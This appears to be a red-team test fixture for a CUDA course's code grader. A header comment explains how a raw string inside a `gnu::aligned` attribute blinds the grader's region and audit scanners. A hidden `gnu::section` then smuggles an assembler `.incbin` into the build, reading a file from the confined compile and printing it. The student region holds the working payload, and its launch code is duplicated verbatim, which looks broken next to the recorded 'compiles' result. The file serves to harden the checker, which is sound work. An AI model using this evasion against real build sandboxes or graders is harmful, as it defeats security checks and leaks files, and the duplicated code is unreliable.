// Attack (Lab 01, round 43, static layers: region rules (regions.cpp attribute_list) and the preprocessed-source
// scan (read_attribute_list, audit.cpp)): a raw string inside a harmless attribute's arguments,
// `[[gnu::aligned(sizeof(R"x(")x"))]]` (aligned(2), valid to GCC and EDG). The main loops of both lexers know raw
// strings; the attribute-list readers do not: they read `R` as a name and `"x("` as a string, then `)x` as
// code and the `"` that closes the raw string as opening an ordinary string, which runs to the next quote on
// the line. On the same line, `[ CUDARTAPI [gnu::section("...")]]` (CUDARTAPI: empty, non-reserved, so the
// region lexer sees no `[[`) follows: the .ii scan's list reader takes `))]] static int pad = 0; [ [gnu::section(`
// for a string, the section's own text up to `\"` for code (no refused name in it), the rest for a string, and
// closes the first list at the section's `)]]`: neither `[ [` nor `section` is ever read. The region rules'
// attribute_list accepts the first list (its argument scan balances the same wrong way). GCC hands the section
// string to the assembler: `.incbin "/usr/include/stdio.h"` (a stand-in for any file the confined compile may
// read) into .rodata.notes, printed once through `extern const char leaked[]`.
// Evidence: grade --labs-dir ... --allow-no-gpu --lab 01: "compiles", "passed: the region rules", "passed: the
// audit ... 39 functions and objects"; the slot object has .rodata.notes of 0x7b28 bytes starting with
// "/* Define ISO C stdio on top of C++ iostreams." and the local label _ZN5lab016leakedE.
// What should catch it: one literal reader for the whole line (raw, prefixed and suffixed literals as the main
// loop reads them) used inside attribute lists too, in read_attribute_list (audit.cpp:551) and attribute_list
// (regions.cpp:334 and :378); or refusing any raw string inside [[...]] in a region. Expected: refused_region.
// The regions not given here are the solution's; this one is the solution's with the trick added.

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    [[gnu::aligned(sizeof(R"x(")x"))]] static int pad = 0; [ CUDARTAPI [gnu::section(".rodata.notes\n_ZN5lab016leakedE: .incbin \"/usr/include/stdio.h\"\n .byte 0\n .section .rodata.notes"), gnu::used]] static const char hold[1] = {0};
    extern const char leaked[];
    static bool shown = false;
    if (!shown && hold[0] == 0 && pad == 0) printf("%.200s\n", leaked);
    shown = true;
    // END STUDENT REGION
